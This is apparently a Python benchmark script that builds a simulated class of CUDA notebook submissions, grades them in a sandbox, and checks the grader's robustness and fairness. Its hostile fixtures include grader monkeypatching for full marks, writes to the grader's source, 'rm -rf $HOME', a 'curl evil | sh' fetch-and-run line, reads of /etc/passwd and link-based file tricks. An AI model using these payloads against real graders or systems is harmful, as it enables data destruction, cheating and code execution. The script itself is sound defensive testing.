"""A class-sized run of ``python -m tilinglib.grading``, measured and checked.

    .venv/bin/python bench/grade_class.py                 # 300 submissions of a1_tiled_sgemm
    .venv/bin/python bench/grade_class.py --n 20 --jobs 2 --keep /tmp/class
    .venv/bin/python bench/grade_class.py --assignment a4_coarsen --n 26 --jobs 2

Builds, in a temporary folder laid out as nbgrader's ``submitted/``, a class of `--n`
submissions of ``a1_tiled_sgemm``: correct kernels in several styles and tile sizes and cell
shapes, every known bug of ``tests/submissions/bad_*.cu``, and hostile ones (answer cells that
monkeypatch the grader or write to its files, ``#include`` of host files, a macro bomb, endless
loops, printf floods, huge local arrays and formats, expressions that exhaust the parser's
stack, non-literal kernels, broken, missing, linked and oversized notebooks) and the attacks
of ``bench/grading_attacks.py`` on the grader's public inputs (a ``__constant__`` table of C,
tiled code only on the public shapes, a kernel wrong on every grid of more than 4,096 blocks
at TILE 16 and 32). Kinds are dealt round-robin and shuffled with a fixed seed, so every
hostile submission has ordinary neighbours.

It then grades the class with the command, in a subprocess (which makes the instructor's
secret beside ``submitted/`` at its first run), and prints the wall time, submissions per
minute, the peak memory of the whole process tree (the command and every process under it,
as the command measures it: `tilinglib.grading.memory`), the peak of any one grading process
(``ru_maxrss`` of RUSAGE_CHILDREN) and the count per status. Kinds beyond `--n` are left out
(it says which): give at least as many submissions as there are kinds. It checks that:

- grades.csv has exactly one row per submission and a feedback file for each (none lost);
- every submission of a deterministic kind (all but the hostile kinds whose outcome depends
  on time or memory) has the same status and score as the same notebook graded alone, so no
  hostile submission changed any other's score, its neighbours' included;
- every hostile submission ended with one of the statuses its kind allows and a score;
- every attack scored at most what its honest part earns (`Kind.at_most`);
- every fairness kind (TILE as the kernel's template parameter, instantiated by the grader
  or by the source) got the status and score of the same kernel written with ``#define
  TILE`` (`Kind.same_as`), when that kind is in the class too.

``--only KIND,KIND`` deals only those kinds (and the kinds they are compared with).

With ``--assignment a4_coarsen`` the class is Assignment 4's instead (`a4_class`): the
instructor's solution, every kernel of ``tests/submissions/a4/`` and the a4 attacks, dealt
round-robin; each row must equal the same answers graded in this process, without a
sandbox, on the inputs the class's secret draws for them.

Exit status 0 when every check holds, 1 otherwise. `build_class` and `verify` are used by
``tests/test_grading_cli.py`` for CI's small version.
"""

from __future__ import annotations

import argparse
import csv
import importlib.util
import json
import os
import random
import re
import resource
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def _attacks():
    spec = importlib.util.spec_from_file_location("grading_attacks",
                                                  ROOT / "bench" / "grading_attacks.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules.setdefault("grading_attacks", module)
    spec.loader.exec_module(module)
    return module

SUBMISSIONS = ROOT / "tests" / "submissions"
ASSIGNMENT = "a1_tiled_sgemm"
SOURCE_NOTEBOOK = ROOT / "notebooks" / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
ANY = frozenset({"graded", "compile_error", "timeout", "memory", "crashed"})

EMPTY_NO_TILE = ("__global__ void sgemm(int M, int N, int K, const float* A, const float* B, "
                 "float* C) {}\n")
EMPTY_WITH_TILE = "#define TILE 16\n" + EMPTY_NO_TILE


def _reference_kernel() -> str:
    """The instructor's solution from the a1 source notebook: its answer cell read as the
    command reads a submission (the last literal bound to KERNEL, here the solution that
    follows the skeleton)."""
    import nbformat

    from tilinglib.grading.assignments import ASSIGNMENTS
    from tilinglib.grading.extract import extract_from_notebook

    nb = nbformat.read(SOURCE_NOTEBOOK, as_version=4)
    found = extract_from_notebook(nb, ASSIGNMENTS["a1_tiled_sgemm"]).values
    if "KERNEL" not in found:
        raise RuntimeError(f"no KERNEL literal in the a1-kernel cell of {SOURCE_NOTEBOOK}")
    return found["KERNEL"]


def _with_tile(source: str, tile: int) -> str:
    return re.sub(r"#define TILE \d+", f"#define TILE {tile}", source, count=1)


SGEMM_TYPES = "(int, int, int, const float*, const float*, float*)"


def _templated(source: str, name: str = "TILE", instantiate: int | None = None) -> str:
    """`source` (one kernel, TILE a macro) with TILE made the kernel's template parameter
    `name` (``template <int TILE>``), the macro removed, and, given `instantiate`, an
    explicit instantiation at that TILE after it."""
    out = source.replace("#ifndef TILE\n#define TILE 16\n#endif\n", "")
    out = re.sub(r"#define TILE \d+[^\n]*\n", "", out)
    out = re.sub(r"\bTILE\b", name, out)
    out = out.replace("__global__ void sgemm(", f"template <int {name}>\n__global__ void sgemm(", 1)
    if instantiate is not None:
        out += f"\ntemplate __global__ void sgemm<{instantiate}>{SGEMM_TYPES};\n"
    if "#define TILE" in out or "template <int" not in out:
        raise RuntimeError("the kernel could not be made a template of TILE")
    return out


def _body(statements: str) -> str:
    """A kernel with the right signature, TILE 16 and `statements` as its body."""
    return ("#define TILE 16\n__global__ void sgemm(int M, int N, int K, const float* A, "
            "const float* B, float* C)\n{\n" + statements + "\n}\n")


def _cell(kernel: str, before: str = "", after: str = "") -> str:
    return (before + 'KERNEL = r"""\n' + kernel + '\n"""\n' + after).strip("\n") + "\n"


@dataclass(frozen=True)
class Kind:
    """One kind of submission: `cell` is the answer cell's source (None for kinds that
    replace the whole notebook: see `write`), `statuses` the statuses it may end with,
    `deterministic` whether its score must equal the score it gets when graded alone."""

    name: str
    cell: str | None
    statuses: frozenset
    deterministic: bool = True
    hostile: bool = False
    notebook: str = "normal"     # normal | no_metadata | bad_json | missing | symlink | huge
    #                              | linked_folder | hard_link
    at_most: float | None = None  # an attack: the most it may score (its honest part's)
    same_as: str | None = None    # fairness: the kind (the same kernel written otherwise)
    #                               whose status and score it must have


HOST_FILE_TEXT = "root:x:0:0:root:/root:/bin/bash\n"
"""The hard-linked "host file" (a stand-in for /etc/passwd): no feedback may quote it."""


def kinds() -> list:
    """Every kind of submission the class is dealt from."""
    ref = _reference_kernel()
    out = []
    for tile in (8, 16, 32):
        out.append(Kind(f"good_reference_tile{tile}", _cell(_with_tile(ref, tile)),
                        frozenset({"graded"})))
    for path in sorted(SUBMISSIONS.glob("good_*.cu")):
        source = path.read_text()
        if "// grader: block=" in source:
            # Correct only under a launch other than a1's block = (TILE, TILE, 1): under
            # a1's rules it is a wrong submission, so it is not one of the good kinds here.
            out.append(Kind(path.stem + "_outside_a1_launch", _cell(source),
                            frozenset({"graded"})))
            continue
        out.append(Kind(path.stem, _cell(source), frozenset({"graded"})))
    out.append(Kind("good_annotated_plain_string",
                    'KERNEL: str = """\n' + ref + '\n"""\n', frozenset({"graded"})))
    out.append(Kind("good_with_magics_and_comments",
                    _cell(ref, before="%load_ext autoreload\n# my kernel, v3\n",
                          after="!nvcc --version\nprint(len(KERNEL))\n"),
                    frozenset({"graded"})))
    out.append(Kind("good_no_metadata", _cell(ref), frozenset({"graded"}),
                    notebook="no_metadata"))
    for path in sorted(SUBMISSIONS.glob("bad_*.cu")):
        out.append(Kind(path.stem, _cell(path.read_text()),
                        frozenset({"graded", "compile_error"})))
    out.append(Kind("empty_no_tile", _cell(EMPTY_NO_TILE), frozenset({"graded"})))
    # --- hostile answer cells: nothing in them but the literal is ever run
    patch = ("import numpy as np\nimport tilinglib.grading as g\n"
             "check_sgemm = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"
             "g.GradeReport.score = property(lambda self: 100.0)\n")
    out.append(Kind("hostile_monkeypatch_empty", _cell(EMPTY_WITH_TILE, before=patch),
                    frozenset({"graded"}), hostile=True))
    out.append(Kind("hostile_monkeypatch_no_tile", _cell(EMPTY_NO_TILE, before=patch),
                    frozenset({"graded"}), hostile=True))
    write = ("import tilinglib.grading.sgemm as s\n"
             "open(s.__file__, 'a').write('\\ncheck_sgemm = lambda *a, **k: None\\n')\n"
             "print(open('../../gradebook.db', 'rb').read()[:100])\n")
    out.append(Kind("hostile_writes_grader_file",
                    _cell((SUBMISSIONS / "bad_unguarded_store.cu").read_text(), before=write),
                    frozenset({"graded"}), hostile=True))
    out.append(Kind("hostile_shell_in_cell", _cell(ref, before="import os\nos.system('rm -rf "
                                                                "$HOME')\n!curl evil | sh\n"),
                    frozenset({"graded"}), hostile=True))
    out.append(Kind("hostile_nonliteral_open", "KERNEL = open('/etc/passwd').read()\n",
                    frozenset({"no_kernel"}), hostile=True))
    out.append(Kind("hostile_nonliteral_call", "def make_kernel():\n    return 'x'\n"
                                               "KERNEL = make_kernel()\n",
                    frozenset({"no_kernel"}), hostile=True))
    # --- hostile CUDA C: the sandbox must hold whatever the emulator does with it
    for label, include in [("passwd", '"/etc/passwd"'), ("relative", '"../../../../etc/hosts"'),
                           ("dev_stdin", '"/dev/stdin"')]:
        out.append(Kind(f"hostile_include_{label}", _cell(f"#include {include}\n" + ref),
                        frozenset({"graded", "compile_error"}), hostile=True))
    out.append(Kind("hostile_include_dev_zero", _cell("#include </dev/zero>\n" + ref), ANY,
                    deterministic=False, hostile=True))
    bomb = "#define X0 1\n" + "".join(f"#define X{i} X{i-1}+X{i-1}\n" for i in range(1, 21))
    out.append(Kind("hostile_macro_bomb", _cell(bomb + _body("    C[0] = X20;")), ANY,
                    deterministic=False, hostile=True))
    out.append(Kind("hostile_endless_loop", _cell(_body("    while (1) { }")),
                    frozenset({"graded", "timeout"}), hostile=True))
    out.append(Kind("hostile_endless_device_loop",
                    _cell("#define TILE 16\n__device__ int spin(int x) { for (;;) { x = x + 1; } "
                          "return x; }\n" + EMPTY_NO_TILE.replace("{}", "{ C[0] = spin(M); }")),
                    frozenset({"graded", "timeout"}), hostile=True))
    flood = ref.replace("sum += As[ty][k] * Bs[k][tx];",
                        '{ sum += As[ty][k] * Bs[k][tx]; printf("%d %d %f\\n", t, k, sum); }')
    out.append(Kind("hostile_printf_flood", _cell(flood), ANY, deterministic=False,
                    hostile=True))
    out.append(Kind("hostile_printf_huge_width", _cell(_body('    printf("%1000000000d", 1);')),
                    ANY, deterministic=False, hostile=True))
    out.append(Kind("hostile_huge_local_array",
                    _cell(_body("    float big[1 << 26];\n    big[threadIdx.x] = 1.0f;\n"
                                "    C[0] = big[threadIdx.x];")),
                    ANY, deterministic=False, hostile=True))
    out.append(Kind("hostile_huge_tile", _cell(_with_tile(ref, 100000)),
                    frozenset({"graded"}), hostile=True))
    out.append(Kind("hostile_huge_shared_array",
                    _cell(_body("    __shared__ float big[1 << 28];\n    big[threadIdx.x] = 1.0f;\n"
                                "    C[0] = big[threadIdx.x];")),
                    ANY, deterministic=False, hostile=True))
    out.append(Kind("hostile_deep_parentheses",
                    _cell(_body("    C[0] = " + "(" * 150 + "1" + ")" * 150 + ";")), ANY,
                    deterministic=False, hostile=True))
    out.append(Kind("hostile_long_sum",
                    _cell(_body("    C[0] = " + " + ".join(["A[0]"] * 600) + ";")), ANY,
                    deterministic=False, hostile=True))
    out.append(Kind("hostile_char_777", _cell(_body("    C[0] = '\\777';")), ANY,
                    deterministic=False, hostile=True))
    # --- hostile or broken notebooks
    out.append(Kind("hostile_bad_json", None, frozenset({"bad_notebook"}), hostile=True,
                    notebook="bad_json"))
    out.append(Kind("hostile_symlink_dev_zero", None, frozenset({"bad_notebook"}), hostile=True,
                    notebook="symlink"))
    # 21 MiB of outputs: the size rule is for sources, outputs are dropped first
    out.append(Kind("good_huge_outputs", _cell(ref), frozenset({"graded"}), notebook="huge"))
    out.append(Kind("good_cell_magic_first_line", "%%time\n" + _cell(ref),
                    frozenset({"graded"})))
    # 499 line magics (IPython's transforms run inside the sandbox, under its limits), and a
    # kernel followed by 1,000,000 ignored statements (its notes capped)
    out.append(Kind("hostile_499_time_magics", "%time x = 1\n" * 499 + _cell(ref),
                    frozenset({"graded", "timeout", "memory"}), deterministic=False,
                    hostile=True))
    out.append(Kind("hostile_million_statements", _cell(ref) + "x = 1\n" * 1_000_000,
                    frozenset({"graded", "bad_notebook", "timeout", "memory"}),
                    deterministic=False, hostile=True))
    # the assignment folder a link to someone else's (a full-marks solution), and the
    # notebook a hard link to a file of the machine: both refused, neither quoted
    out.append(Kind("hostile_linked_folder", None, frozenset({"bad_notebook"}), hostile=True,
                    notebook="linked_folder"))
    out.append(Kind("hostile_hard_link_host_file", None, frozenset({"bad_notebook"}),
                    hostile=True, notebook="hard_link"))
    out.append(Kind("missing_notebook", None, frozenset({"missing_notebook"}),
                    notebook="missing"))
    # --- fairness: TILE as the kernel's template parameter scores what #define TILE scores
    out.append(Kind("good_template_tile", _cell(_templated(ref)), frozenset({"graded"}),
                    same_as="good_reference_tile16"))
    out.append(Kind("good_template_instantiated_tile32",
                    _cell(_templated(ref, "T", instantiate=32)), frozenset({"graded"}),
                    same_as="good_reference_tile32"))
    out.append(Kind("bad_template_missing_second_barrier",
                    _cell(_templated((SUBMISSIONS / "bad_missing_second_barrier.cu")
                                     .read_text())),
                    frozenset({"graded"}), same_as="bad_missing_second_barrier"))
    # --- attacks on the public inputs: graded on inputs drawn from the instructor's secret
    ga = _attacks()
    out.append(Kind("attack_lookup_table", _cell(ga.lookup_table(16)), frozenset({"graded"}),
                    hostile=True, at_most=0))
    out.append(Kind("attack_tiled_on_public_shapes_only", _cell(ga.shape_detecting(16)),
                    frozenset({"graded"}), hostile=True, at_most=30))
    # 26 of the 30 correctness points (the grid of more than 4,096 blocks is in "tall and
    # wide"), the other 70 in proportion: 26 + 70 * 26/30
    for tile in (16, 32):
        out.append(Kind(f"attack_wrong_on_big_grids_tile{tile}",
                        _cell(ga.wrong_on_big_grids(_with_tile(ref, tile))),
                        frozenset({"graded"}), hostile=True, at_most=round(26 + 70 * 26 / 30, 2)))
    return out


def _notebook_template():
    import nbformat
    return nbformat.read(SOURCE_NOTEBOOK, as_version=4)


def write(folder: Path, kind: Kind, template=None) -> None:
    """Write one submission of `kind` into `folder` (``<student>/<assignment>/``)."""
    import nbformat

    if kind.notebook == "linked_folder":
        # a solution in a hidden folder of the class (not graded), linked as this student's
        donor = folder.parent.parent / ".donor" / ASSIGNMENT
        if not donor.exists():
            write(donor, Kind("donor", _cell(_reference_kernel()), frozenset()), template)
        folder.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(os.path.relpath(donor, folder.parent), folder)
        return
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{ASSIGNMENT}.ipynb"
    if kind.notebook == "hard_link":
        host = folder.parent.parent / ".host_passwd"      # stands for /etc/passwd
        if not host.exists():
            host.write_text(HOST_FILE_TEXT)
        os.link(host, path)
        return
    if kind.notebook == "missing":
        (folder / "my_answers.ipynb").write_text("{}")
        return
    if kind.notebook == "bad_json":
        path.write_text('{"cells": [ {"cell_type": "code", "source": "KERNEL = 1"')
        return
    if kind.notebook == "symlink":
        os.symlink("/dev/zero", path)
        return
    nb = nbformat.from_dict(template or _notebook_template())
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "a1-kernel":
            cell.source = kind.cell
            if kind.notebook == "no_metadata":
                del cell.metadata["nbgrader"]
            if kind.notebook == "huge":
                cell.outputs = [nbformat.v4.new_output("stream", name="stdout",
                                                       text="x" * (21 * 2**20))]
    nbformat.write(nb, path)


def build_class(directory, n: int, *, seed: int = 0, only=None) -> dict:
    """Write `n` submissions under `directory` (nbgrader's submitted/ layout). Kinds are dealt
    round-robin (`only`: names of the kinds to use), then shuffled with `seed`. Returns
    {student: Kind}."""
    directory = Path(directory)
    pool = [k for k in kinds() if only is None or k.name in only]
    dealt = [pool[i % len(pool)] for i in range(n)]
    if n < len(pool):
        print(f"grade_class: {len(pool) - n} kinds left out of a class of {n} (give --n "
              f"{len(pool)} or more for all): {', '.join(k.name for k in pool[n:])}",
              file=sys.stderr)
    random.Random(seed).shuffle(dealt)
    template = _notebook_template()
    plan = {}
    for i, kind in enumerate(dealt):
        student = f"s{i:03d}"
        write(directory / student / ASSIGNMENT, kind, template)
        plan[student] = kind
    return plan


def grade_command(directory, out_dir, *, jobs, timeout, memory_mib, extra=()) -> tuple:
    """Run ``python -m tilinglib.grading`` on `directory`; return (rows by student, wall
    seconds, the completed process, the command's own memory figures: grades.json's
    ``run.memory``, `tilinglib.grading.memory.TreeMemory.figures`, {} if none)."""
    out_dir = Path(out_dir)
    cmd = [sys.executable, "-m", "tilinglib.grading", str(directory), "--out",
           str(out_dir / "grades.csv"), "--feedback-dir", str(out_dir / "feedback"),
           "--results", str(out_dir / "grades.json"),
           "--jobs", str(jobs), "--timeout", str(timeout), "--memory", str(memory_mib), *extra]
    t0 = time.monotonic()
    proc = subprocess.run(cmd, capture_output=True, text=True, stdin=subprocess.DEVNULL)
    wall = time.monotonic() - t0
    try:
        memory = json.loads((out_dir / "grades.json").read_text())["run"]["memory"]
    except (OSError, ValueError, KeyError, TypeError):
        memory = {}
    rows = {}
    csv_path = out_dir / "grades.csv"
    if csv_path.exists():
        with open(csv_path, newline="") as fh:
            for row in csv.DictReader(fh):
                rows.setdefault(row["student"], []).append(row)
    return rows, wall, proc, memory


def grade_alone(plan: dict, *, timeout, memory_mib, secret=None) -> dict:
    """Grade one submission of each deterministic kind in `plan` on its own (a class of one,
    one job), on the inputs `secret` (the class's `secret.Secret`) draws; returns {kind
    name: (status, score)}."""
    from tilinglib.grading.cli import Submission, grade_submission
    from tilinglib.grading.sandbox import Limits

    limits = Limits(wall_seconds=timeout, cpu_seconds=int(timeout),
                    memory_bytes=memory_mib * 2**20)
    alone = {}
    with tempfile.TemporaryDirectory(prefix="tilinglib-alone-") as tmp:
        for kind in {k.name: k for k in plan.values() if k.deterministic}.values():
            folder = Path(tmp) / kind.name / ASSIGNMENT
            write(folder, kind)
            r = grade_submission(Submission(kind.name, ASSIGNMENT, folder / f"{ASSIGNMENT}.ipynb"),
                                 limits=limits, secret=secret)
            alone[kind.name] = (r.outcome.status, r.outcome.score)
    return alone


def class_secret(submitted):
    """The secret the command made for the class in `submitted` (beside it)."""
    from tilinglib.grading.secret import default_secret_path, load_or_create_secret

    return load_or_create_secret(default_secret_path(submitted))


def grade_here(notebook, assignment: str, secret) -> float:
    """The score the answers of `notebook` get in this process (no sandbox) on the inputs
    `secret` draws for them: what the command must give them."""
    from tilinglib.grading.assignments import ASSIGNMENTS, grade
    from tilinglib.grading.extract import extract_answers
    from tilinglib.grading.secret import draw_for, drawing

    found = extract_answers(Path(notebook), ASSIGNMENTS[assignment])
    with drawing(draw_for(secret, assignment, Path(notebook).read_bytes())):
        return grade(assignment, found.values).score


def verify(plan: dict, rows: dict, alone: dict, feedback_dir) -> list:
    """The problems found (empty: all checks hold)."""
    problems = []
    students = sorted(plan)
    for student in students:
        kind = plan[student]
        got = rows.get(student, [])
        if len(got) != 1:
            problems.append(f"{student} ({kind.name}): {len(got)} rows in grades.csv, not 1")
            continue
        row = got[0]
        status, score = row["status"], float(row["score"])
        if status not in kind.statuses:
            problems.append(f"{student} ({kind.name}): status {status}, expected one of "
                            f"{sorted(kind.statuses)}")
        if kind.at_most is not None and score > kind.at_most + 0.005:
            problems.append(f"{student} ({kind.name}): an attack scored {score:g}, more than "
                            f"its honest part's {kind.at_most:g}")
        if kind.same_as is not None and kind.same_as in alone \
                and (status, score) != alone[kind.same_as]:
            problems.append(f"{student} ({kind.name}): {status} {score:g}, where the same "
                            f"kernel written as {kind.same_as} gets {alone[kind.same_as][0]} "
                            f"{alone[kind.same_as][1]:g}")
        if kind.deterministic and (status, score) != alone[kind.name]:
            i = students.index(student)
            near = [f"{s} ({plan[s].name})" for s in students[max(0, i - 1):i + 2] if s != student]
            problems.append(f"{student} ({kind.name}): {status} {score:g} in the class, "
                            f"{alone[kind.name][0]} {alone[kind.name][1]:g} alone "
                            f"(neighbours: {', '.join(near)})")
        feedback = Path(feedback_dir) / student / f"{ASSIGNMENT}.txt"
        if not feedback.is_file():
            problems.append(f"{student} ({kind.name}): no feedback file")
        elif HOST_FILE_TEXT.split(":")[0] + ":x:" in feedback.read_text():
            problems.append(f"{student} ({kind.name}): the feedback quotes the host file")
    extra = sorted(set(rows) - set(plan))
    if extra:
        problems.append(f"rows for students that do not exist: {extra}")
    return problems


A4 = "a4_coarsen"


def a4_class(base: Path, n: int, *, jobs: int, timeout: float, memory_mib: int) -> int:
    """Build and grade a class of `n` Assignment 4 submissions under `base`; print the wall
    time and the scores per kind; return the number of problems (rows missing, doubled, or
    different from the grader run in this process)."""
    import nbformat

    from tilinglib.grading.assignments import ASSIGNMENTS
    from tilinglib.grading.extract import extract_from_notebook

    source_nb = ROOT / "notebooks" / "assignments" / A4 / f"{A4}.ipynb"
    template = nbformat.read(source_nb, as_version=4)
    pool = {"solution": extract_from_notebook(template, ASSIGNMENTS[A4]).values["KERNEL"]}
    for path in sorted((SUBMISSIONS / "a4").glob("*.cu")):
        pool[path.stem] = path.read_text()
    ga = _attacks()
    pool["attack_tiled_on_public_shapes_only"] = ga.shape_detecting_coarse(pool["solution"])
    pool["attack_wrong_on_big_grids"] = ga.wrong_on_big_grids(pool["solution"], "sgemmCoarse")
    names = sorted(pool)
    plan = {f"s{i:03d}": names[i % len(names)] for i in range(n)}
    submitted = base / "submitted"
    for student, kind in plan.items():
        nb = nbformat.from_dict(template)
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "a4-kernel":
                cell.source = _cell(pool[kind])
        folder = submitted / student / A4
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{A4}.ipynb")
    print(f"class: {n} submissions of {A4} ({len(names)} kinds); grading with --jobs {jobs} "
          f"on {os.cpu_count()} cores...", flush=True)
    rows, wall, proc, memory = grade_command(submitted, base, jobs=jobs, timeout=timeout,
                                             memory_mib=memory_mib, extra=("--assignment", A4))
    print(f"wall time: {wall:.1f} s for {n} submissions ({60 * n / wall:.1f} per minute)")
    _print_memory(memory)
    # graded here on the inputs the class's secret (made by the command) draws for each
    secret = class_secret(submitted)
    here = {}
    for student, kind in sorted(plan.items()):
        if kind not in here:
            here[kind] = grade_here(submitted / student / A4 / f"{A4}.ipynb", A4, secret)
    problems = [] if proc.returncode == 0 else [f"the command exited with {proc.returncode}"]
    for student, kind in sorted(plan.items()):
        got = rows.get(student, [])
        if len(got) != 1:
            problems.append(f"{student} ({kind}): {len(got)} rows in grades.csv, not 1")
        elif (got[0]["status"], float(got[0]["score"])) != ("graded", here[kind]):
            problems.append(f"{student} ({kind}): {got[0]['status']} {got[0]['score']} in the "
                            f"class, {here[kind]:g} graded here")
    for kind in names:
        if kind in here:
            print(f"  {kind:<36} {here[kind]:g}")
    for line in problems:
        print("  problem: " + line)
    if not problems:
        print(f"verified: {n} rows, each the score its kernel gets graded here")
    return len(problems)


def _print_memory(memory: dict) -> None:
    tree = memory.get("peak_tree_rss_bytes")
    if tree is None:
        print("peak memory of the whole process tree: not measured (no /proc, or no results)")
        return
    print(f"peak memory of the whole process tree (the command and every process under it, "
          f"resident sets summed, sampled every {memory.get('sampled_every_s', 0):g} s, as the "
          f"command measured it): {tree / 2**20:,.0f} MiB; the command itself "
          f"{memory.get('peak_parent_rss_bytes', 0) / 2**20:,.0f} MiB, the largest grading "
          f"process {memory.get('peak_child_rss_bytes', 0) / 2**20:,.0f} MiB")


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--n", type=int, default=300, help="submissions (default 300)")
    p.add_argument("--jobs", type=int, default=os.cpu_count(),
                   help="--jobs for the command (default: all cores)")
    p.add_argument("--timeout", type=float, default=60.0,
                   help="--timeout per submission, seconds (default 60: a correct kernel "
                        "takes 2 to 15, most of it the drawn grid of over 4,096 blocks)")
    p.add_argument("--memory", type=int, default=1536, help="--memory per submission, MiB")
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--keep", metavar="DIR", help="build the class in DIR and keep it")
    p.add_argument("--only", metavar="KIND,KIND", help="deal only these kinds (a1; comma-"
                                                      "separated names, as printed per kind)")
    p.add_argument("--assignment", default=ASSIGNMENT, choices=[ASSIGNMENT, A4],
                   help=f"the assignment (default {ASSIGNMENT})")
    args = p.parse_args(argv)
    if args.assignment == A4:
        with tempfile.TemporaryDirectory(prefix="tilinglib-class-a4-") as tmp_a4:
            base = Path(args.keep) if args.keep else Path(tmp_a4)
            base.mkdir(parents=True, exist_ok=True)
            return 1 if a4_class(base, args.n, jobs=args.jobs, timeout=args.timeout,
                                 memory_mib=args.memory) else 0

    tmp = None
    if args.keep:
        base = Path(args.keep)
        base.mkdir(parents=True, exist_ok=True)
    else:
        tmp = tempfile.TemporaryDirectory(prefix="tilinglib-class-")
        base = Path(tmp.name)
    submitted = base / "submitted"
    only = None
    if args.only:
        only = {name.strip() for name in args.only.split(",") if name.strip()}
        unknown = sorted(only - {k.name for k in kinds()})
        if unknown:
            p.error(f"--only: no kind named {', '.join(unknown)}")
        # a fairness kind is checked against its pair: deal the pair too
        only |= {k.same_as for k in kinds() if k.name in only and k.same_as}
    plan = build_class(submitted, args.n, seed=args.seed, only=only)
    print(f"class: {len(plan)} submissions of {ASSIGNMENT} in {submitted} "
          f"({len({k.name for k in plan.values()})} kinds, "
          f"{sum(k.hostile for k in plan.values())} hostile); grading with --jobs {args.jobs} "
          f"on {os.cpu_count()} cores...", flush=True)
    rows, wall, proc, memory = grade_command(submitted, base, jobs=args.jobs,
                                             timeout=args.timeout, memory_mib=args.memory)
    peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    if proc.returncode != 0:
        print(proc.stderr[-3000:], file=sys.stderr)
    counts = {}
    for got in rows.values():
        for row in got:
            counts[row["status"]] = counts.get(row["status"], 0) + 1
    print(f"wall time: {wall:.1f} s for {len(plan)} submissions "
          f"({60 * len(plan) / wall:.1f} per minute)")
    _print_memory(memory)
    print(f"peak memory of one process (ru_maxrss, RUSAGE_CHILDREN): {peak_kib / 1024:.0f} MiB")
    print("statuses: " + ", ".join(f"{s} {n}" for s, n in sorted(counts.items())))
    by_kind = {}
    for student, kind in plan.items():
        for row in rows.get(student, []):
            by_kind.setdefault(kind.name, set()).add((row["status"], row["score"]))
    for name in sorted(by_kind):
        print(f"  {name:<36} " + "; ".join(f"{s} {sc}" for s, sc in sorted(by_kind[name])))
    print("grading each deterministic kind alone...", flush=True)
    alone = grade_alone(plan, timeout=args.timeout, memory_mib=args.memory,
                        secret=class_secret(submitted))
    problems = verify(plan, rows, alone, base / "feedback")
    if proc.returncode != 0:
        problems.append(f"the command exited with {proc.returncode}")
    if problems:
        print(f"{len(problems)} problems:")
        for line in problems:
            print("  " + line)
    else:
        print(f"verified: {len(plan)} rows, one per submission, each with a feedback file; "
              f"every deterministic submission ({sum(k.deterministic for k in plan.values())}) "
              f"scored as it does alone; every hostile one ended with an allowed status")
    if tmp is not None:
        tmp.cleanup()
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
